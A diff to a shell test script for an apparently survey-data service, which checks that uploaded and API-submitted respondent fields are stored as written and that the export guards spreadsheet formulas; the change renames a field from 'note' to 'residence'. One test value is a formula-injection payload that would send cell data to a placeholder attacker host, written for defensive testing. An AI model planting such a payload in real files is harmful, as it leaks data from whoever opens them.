@@ -67,11 +67,11 @@ aw-10,C011,2025-03-08,web,1,,,3,m,it's -fine
 EOF
 is "$(upload "$ADMIN" onestop-tt01 "$tmp/awkward.csv")" 200 "rows with quotes, commas, a line break and demographics: uploaded"
 is "$(totals)" "10 10 0 0 0" "all 10 stored" || jq -c '.errors' "$tmp/body" | head -c 2000 | sed 's/^/# /' >&2
-is "$(sql "SELECT respondent ->> 'note' FROM responses WHERE source_id = 'aw-5'")" '=HYPERLINK("http://evil.example/?x="&A1,"click")' \
+is "$(sql "SELECT respondent ->> 'residence' FROM responses WHERE source_id = 'aw-5'")" '=HYPERLINK("http://evil.example/?x="&A1,"click")' \
 	"a comment that is a formula is stored as the citizen wrote it"
-is "$(sql "SELECT respondent ->> 'note' FROM responses WHERE source_id = 'aw-9'")" "=already quoted" \
+is "$(sql "SELECT respondent ->> 'residence' FROM responses WHERE source_id = 'aw-9'")" "=already quoted" \
 	"a ' before a formula in an uploaded file is taken off (the export's own guard)"
-st=$(post "$ADMIN" '{"id": "aw-11", "survey": "onestop-tt01", "unit": "C011", "submitted_at": "2025-03-09T10:00:00+07:00", "channel": "web", "answers": {"R1": 3}, "respondent": {"gender": "m", "note": "'"'"'=quoted by its writer"}}')
+st=$(post "$ADMIN" '{"id": "aw-11", "survey": "onestop-tt01", "unit": "C011", "submitted_at": "2025-03-09T10:00:00+07:00", "channel": "web", "answers": {"R1": 3}, "respondent": {"gender": "m", "residence": "'"'"'=quoted by its writer"}}')
 is "$st" 201 "a comment that starts with '= itself, through the API" || sed 's/^/# /' "$tmp/body" >&2
 
 # --- the same bytes as sipasctl export ------------------------------------------
